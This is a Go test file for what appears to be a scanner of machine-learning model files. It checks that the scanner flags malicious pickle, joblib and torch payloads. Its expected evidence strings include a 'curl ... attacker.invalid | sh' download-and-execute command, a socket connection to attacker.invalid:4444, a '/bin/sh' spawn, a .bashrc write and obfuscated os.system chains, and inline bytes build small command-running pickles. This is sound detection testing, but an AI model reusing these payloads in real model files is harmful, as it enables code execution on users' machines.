package pickle_test

import (
	"archive/tar"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/modelgate/modelgate/internal/analyze"
	"github.com/modelgate/modelgate/internal/analyze/pickle"
	"github.com/modelgate/modelgate/internal/engine"
	"github.com/modelgate/modelgate/internal/finding"
	"github.com/modelgate/modelgate/internal/scantest"
)

// TestEvidence checks that findings show the call as it would run.
func TestEvidence(t *testing.T) {
	cases := []struct {
		sample, rule, evidence, message string
	}{
		{"pickle/os_system_v0.pkl", "PICKLE-101", "os.system('curl http://attacker.invalid/x | sh')", "REDUCE calls os.system"},
		{"pickle/posix_system_v4.pkl", "PICKLE-101", "posix.system('uname -a')", "os.system (imported as posix.system)"},
		{"pickle/dotted_pathlib_os_system.pkl", "PICKLE-101", "pathlib.os.system('id')", "reaches os.system"},
		{"pickle/memo_stack_global.pkl", "PICKLE-101", "os.system('whoami')", "calls os.system"},
		{"pickle/getattr_import_os.pkl", "PICKLE-101", "builtins.getattr(builtins.__import__('os'), 'system')('id')", "os.system through"},
		{"pickle/methodcaller_system.pkl", "PICKLE-101", "operator.methodcaller('system', 'id')(builtins.__import__('os'))", "calls os.system through operator.methodcaller"},
		{"pickle/string_operands_stack_global.pkl", "PICKLE-101", "subprocess.getoutput('id')", "calls subprocess.getoutput"},
		{"pickle/partial_torch_load.pkl", "PICKLE-101", "functools.partial(torch.serialization.load)", "wraps torch.serialization.load"},
		{"pickle/inst_exec.pkl", "PICKLE-101", "__builtin__.exec('import os; os.system(\\'id\\')')", "INST calls builtins.exec"},
		{"pickle/obj_pty_spawn.pkl", "PICKLE-101", "pty.spawn('/bin/sh')", "OBJ calls pty.spawn"},
		{"pickle/socket_connect.pkl", "PICKLE-104", "socket.create_connection(('attacker.invalid', 4444))", ""},
		{"pickle/open_write.pkl", "PICKLE-103", "builtins.open('/home/user/.bashrc', 'a')", ""},
		{"pickle/module_override.pkl", "PICKLE-106", "torch._utils.__dict__.update({'_rebuild_tensor': 'builtins'})", "BUILD overwrites attributes of torch._utils"},
		{"pickle/module_override.pkl", "PICKLE-105", "find_class(", "computed at load time"},
		{"pickle/dunder_builtins.pkl", "PICKLE-105", "numpy.__builtins__", "__builtins__"},
		{"pickle/frame_straddle.pkl", "PICKLE-101", "os.system('id')", "CPython's file unpickler"},
		{"pickle/keyerror_memo.pkl", "PICKLE-201", "BINGET", "memo key 5 was never stored"},
		{"pickle/user_class_v2.pkl", "PICKLE-100", "__main__.Net", "custom"},
		{"joblib/payload_after_array.joblib", "PICKLE-101", "os.system('id')", ""},
		{"torch/magic_eval_legacy.pt", "TORCH-201", "builtins.eval('0x1950A86A20F9469CFC6C')", ""},
	}
	for _, c := range cases {
		f := scantest.Sample(t, c.sample)
		ok := false
		for _, x := range f.Findings {
			if x.Rule == c.rule && strings.Contains(x.Evidence, c.evidence) && strings.Contains(x.Message, c.message) {
				ok = true
			}
		}
		if !ok {
			t.Errorf("%s: no %s with evidence %q and message %q in %+v", c.sample, c.rule, c.evidence, c.message, f.Findings)
		}
	}
}

func TestBenignStreamsAreQuiet(t *testing.T) {
	for _, s := range []string{"joblib/arrays.joblib", "torch/legacy.pt", "torch/legacy_tar.tar", "torch/state_dict_zip.pt",
		"torch/torchscript.pt", "numpy/object_array.npy", "pickle/getattr_bound_method.pkl"} {
		f := scantest.Sample(t, s)
		for _, x := range f.Findings {
			if x.Class != finding.Informational {
				t.Errorf("%s: %s %s", s, x.Rule, x.Message)
			}
		}
		if len(f.Errors) > 0 {
			t.Errorf("%s: errors %v", s, f.Errors)
		}
	}
}

func TestFormats(t *testing.T) {
	cases := map[string]string{
		"joblib/arrays.joblib":         "joblib",
		"torch/legacy.pt":              "pytorch-legacy",
		"torch/state_dict_zip.pt":      "pytorch-zip pickle",
		"torch/torchscript.pt":         "torchscript pickle",
		"torch/legacy_tar.tar":         "pytorch-tar pickle",
		"archive/nested.tar.gz":        "gzip tar pytorch-zip pickle",
		"joblib/estimator_zlib.joblib": "zlib pickle",
	}
	for s, want := range cases {
		if got := strings.Join(scantest.Sample(t, s).Formats, " "); got != want {
			t.Errorf("%s: formats %q, want %q", s, got, want)
		}
	}
}

func pickleBytes(ops ...string) []byte { return []byte("\x80\x02" + strings.Join(ops, "") + ".") }

func TestStackedPicklesAreAllRead(t *testing.T) {
	data := append(pickleBytes("]"), pickleBytes("cposix\nsystem\n\x8c\x02id\x85R")...)
	f := scantest.Bytes(t, "stacked.pkl", data)
	if f.Verdict != finding.MaliciousVerdict {
		t.Fatalf("verdict %s", f.Verdict)
	}
}

func TestTrailingBytesAfterStop(t *testing.T) {
	f := scantest.Bytes(t, "t.pkl", append(pickleBytes("]"), "\n\n\t\t"...))
	if f.Verdict != finding.Safe || len(f.Errors) > 0 {
		t.Fatalf("verdict %s errors %v", f.Verdict, f.Errors)
	}
}

// A storage record of a legacy tar checkpoint whose "storage type" is a
// command: the record walker reports it, then stops (unknown element size).
func TestLegacyTarStorageRecords(t *testing.T) {
	storages := string(pickleBytes("K\x01")) + string(pickleBytes("\x8c\x010\x8c\x03cpucposix\nsystem\n\x87"))
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	for _, m := range []struct{ name, data string }{{"sys_info", string(pickleBytes("}"))}, {"pickle", string(pickleBytes("}"))},
		{"storages", storages}, {"tensors", string(pickleBytes("K\x00"))}} {
		tw.WriteHeader(&tar.Header{Name: m.name, Mode: 0o644, Size: int64(len(m.data))})
		tw.Write([]byte(m.data))
	}
	tw.Close()
	f := scantest.Bytes(t, "old.tar", buf.Bytes())
	if _, ok := scantest.Has(f, "PICKLE-101"); !ok || len(f.Errors) == 0 {
		t.Fatalf("findings %v errors %v", scantest.Rules(f), f.Errors)
	}
}

// TestMemoBudget: a stream that memoizes past the budget finishes quickly
// and says its analysis was incomplete instead of exhausting memory.
func TestMemoBudget(t *testing.T) {
	var b bytes.Buffer
	b.WriteString("\x80\x04")
	for i := 0; i < 1<<20+70000; i++ {
		b.WriteString("K\x01\x94")
	}
	b.WriteString(".")
	f := scantest.Bytes(t, "memo.pkl", b.Bytes())
	if f.Verdict != finding.Error || !strings.Contains(strings.Join(f.Errors, " "), "budget") {
		t.Fatalf("verdict %s errors %v", f.Verdict, f.Errors)
	}
}

func TestHugeArgumentIsSkipped(t *testing.T) {
	var b bytes.Buffer
	b.WriteString("\x80\x04\x8e")
	binary.Write(&b, binary.LittleEndian, uint64(8<<20))
	b.Write(make([]byte, 8<<20))
	b.WriteString("0cposix\nsystem\n\x8c\x02id\x85R.")
	f := scantest.Bytes(t, "big.pkl", b.Bytes())
	if f.Verdict != finding.MaliciousVerdict {
		t.Fatalf("verdict %s errors %v", f.Verdict, f.Errors)
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, dir := range []string{"pickle", "joblib", "torch"} {
		seeds, _ := filepath.Glob(filepath.Join(scantest.Samples(), dir, "*"))
		for _, p := range seeds {
			if b, err := os.ReadFile(p); err == nil && len(b) < 64<<10 {
				f.Add(b)
			}
		}
	}
	lim := engine.DefaultLimits()
	f.Fuzz(func(t *testing.T, data []byte) {
		e := engine.New(engine.Options{Analyzers: []analyze.Analyzer{pickle.Analyzer{}}, Limits: lim, Jobs: 1, Stdin: bytes.NewReader(data)})
		r := e.Scan(context.Background(), []string{"-"}).Report
		for _, msg := range r.Files[0].Errors {
			if strings.Contains(msg, "internal error") {
				t.Fatal(msg)
			}
		}
	})
}

// TestNestedPayloadDepth: base64 inside a dict inside a pickle inside a
// torch zip inside a tar is decoded and analysed, with the chain in the
// location.
func TestNestedPayloadDepth(t *testing.T) {
	f := scantest.Sample(t, "archive/deep_nested.tar")
	x, ok := scantest.Has(f, "PICKLE-101")
	if !ok || f.Verdict != finding.MaliciousVerdict {
		t.Fatalf("verdict %s findings %+v", f.Verdict, f.Findings)
	}
	if depth := strings.Count(x.Location, "!"); depth < 3 || !strings.Contains(x.Location, "!release/model.pt!archive/data.pkl!<base64@") {
		t.Fatalf("location %s (depth %d)", x.Location, depth)
	}
	if _, ok := scantest.Has(f, "PICKLE-109"); !ok {
		t.Fatal("the never-loaded nested pickle is not reported as staging")
	}
}

func TestBenignNestedPayloadIsNotMalicious(t *testing.T) {
	for _, s := range []string{"pickle/nested_loads_benign.pkl", "torch/plain_pickled_module.pkl"} {
		f := scantest.Sample(t, s)
		if f.Verdict != finding.Safe || len(f.Errors) > 0 {
			t.Errorf("%s: verdict %s findings %+v errors %v", s, f.Verdict, f.Findings, f.Errors)
		}
	}
	if _, ok := scantest.Has(scantest.Sample(t, "pickle/nested_loads_benign.pkl"), "PICKLE-108"); !ok {
		t.Error("the loaded payload is not reported")
	}
	// The same loader on a malicious payload: the payload's findings decide.
	f := scantest.Sample(t, "torch/load_from_bytes_payload.pkl")
	if x, ok := scantest.Has(f, "PICKLE-101"); !ok || !strings.Contains(x.Location, "!<bytes@") {
		t.Fatalf("findings %+v", f.Findings)
	}
}

func TestEncodedPayloads(t *testing.T) {
	inner := string(pickleBytes("cposix\nsystem\n\x8c\x02id\x85R"))
	hexed := fmt.Sprintf("%x", inner)
	for name, data := range map[string][]byte{
		"hex staged":             pickleBytes("\x8c" + string(rune(len(hexed))) + hexed),
		"b64decode fed to loads": pickleBytes("cpickle\nloads\ncbase64\nb64decode\n\x8c" + string(rune(len(b64(inner)))) + b64(inner) + "\x85R\x85R"),
	} {
		f := scantest.Bytes(t, "p.pkl", data)
		if x, ok := scantest.Has(f, "PICKLE-101"); !ok || !strings.Contains(x.Location, "!<") {
			t.Errorf("%s: findings %+v errors %v", name, f.Findings, f.Errors)
		}
	}
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// TestCodeObjects: functions carried as bytecode are rebuilt and graded;
// the serialisers' own paths are judged by the grade, direct imports of
// code builders stay malicious by name.
func TestCodeObjects(t *testing.T) {
	cases := []struct {
		sample, rule, evidence string
		verdict                finding.Verdict
	}{
		{"pickle/cloudpickle_function_evil.pkl", "PICKLE-111", "M3 __import__('os').system(cmd)", finding.MaliciousVerdict},
		{"pickle/cloudpickle_function_benign.pkl", "PICKLE-112", "", finding.SuspiciousVerdict},
		{"pickle/dill_function_benign.pkl", "PICKLE-112", "", finding.SuspiciousVerdict},
		{"pickle/marshal_function.pkl", "PICKLE-111", "M2 __import__('os')", finding.MaliciousVerdict},
	}
	for _, c := range cases {
		f := scantest.Sample(t, c.sample)
		x, ok := scantest.Has(f, c.rule)
		if !ok || !strings.Contains(x.Evidence, c.evidence) || f.Verdict != c.verdict || len(f.Errors) > 0 {
			t.Errorf("%s: verdict %s findings %+v errors %v", c.sample, f.Verdict, f.Findings, f.Errors)
		}
	}
	// The benign function is only suspicious: no finding names the
	// serialiser's helpers as code execution.
	for _, x := range scantest.Sample(t, "pickle/cloudpickle_function_benign.pkl").Findings {
		if x.Rule != "PICKLE-112" {
			t.Errorf("unexpected %s: %s", x.Rule, x.Message)
		}
	}
}
